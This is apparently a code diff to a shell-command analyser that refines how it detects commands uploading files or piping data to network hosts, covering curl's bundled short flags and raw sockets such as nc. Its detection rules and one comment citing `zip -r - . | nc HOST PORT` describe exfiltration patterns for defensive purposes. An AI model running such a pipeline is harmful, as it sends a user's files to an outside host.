@@ -203,16 +203,23 @@ const UPLOAD_FLAGS = new Set([
   '--body-file',
 ]);
 
+/** curl's bundled short options (`-sT`, `-fsSd`) name their value-taking option last. */
+const shortFlag = (cmd: ShellCommand, a: string): string =>
+  cmd.name === 'curl' && /^-[a-zA-Z]{2,}$/.test(a) ? `-${a.slice(-1)}` : a;
+
 function uploadedFiles(cmd: ShellCommand): string[] {
   const files: string[] = [];
-  cmd.argv.forEach((a, i) => {
+  cmd.argv.forEach((raw, i) => {
+    const a = shortFlag(cmd, raw);
+    const joined = /^--(?:data[a-z-]*|form|upload-file|post-file|body-file|json)=/.test(a);
     const v = UPLOAD_FLAGS.has(a)
       ? cmd.argv[i + 1]
-      : /^--(?:data[a-z-]*|form|upload-file|post-file|json)=/.test(a)
+      : joined
         ? a.slice(a.indexOf('=') + 1)
         : undefined;
     if (v === undefined) return;
-    if (a === '-T' || a === '--upload-file' || a === '--post-file') files.push(v);
+    const flag = joined ? a.slice(0, a.indexOf('=')) : a;
+    if (['-T', '--upload-file', '--post-file', '--body-file'].includes(flag)) files.push(v);
     const m = /^(?:[\w.-]+=)?@([^;]+)/.exec(v);
     if (m?.[1] !== undefined) files.push(m[1]);
   });
@@ -253,7 +260,10 @@ export function networkIntents(cmd: ShellCommand, all: ShellAnalysis): IntentHit
   const hosts = new Set<string>();
   const operands = cmd.argv
     .slice(1)
-    .filter((a, i, all) => !a.startsWith('-') && !(i > 0 && VALUE_FLAGS.has(all[i - 1] ?? '')));
+    .filter(
+      (a, i, all) =>
+        !a.startsWith('-') && !(i > 0 && VALUE_FLAGS.has(shortFlag(cmd, all[i - 1] ?? ''))),
+    );
   for (const a of operands) {
     const h = hostOf(a, bare) ?? (scpLike ? (SCP_HOST.exec(a)?.[1]?.toLowerCase() ?? null) : null);
     if (h !== null) hosts.add(h);
@@ -274,7 +284,14 @@ export function networkIntents(cmd: ShellCommand, all: ShellAnalysis): IntentHit
     operands.length > 1 &&
     SCP_HOST.test(operands.at(-1) ?? '') &&
     !SCP_HOST.test(operands[0] ?? '');
-  const ncUp = RAW_NET.has(cmd.name) && cmd.redirects.some((r) => r.op === '<');
+  // a raw socket fed by a file or by an earlier stage of its pipeline (`zip -r - . | nc HOST PORT`);
+  // `echo | openssl s_client` only closes the TLS session's input
+  const feeders = earlierStages(cmd, all).filter(
+    (c) => !(cmd.name === 'openssl' && ['echo', 'printf', 'true'].includes(c.name)),
+  );
+  const ncUp =
+    RAW_NET.has(cmd.name) &&
+    (cmd.redirects.some((r) => r.op === '<' && r.target !== '/dev/null') || feeders.length > 0);
   if (
     files.length > 0 ||
     scpUp ||
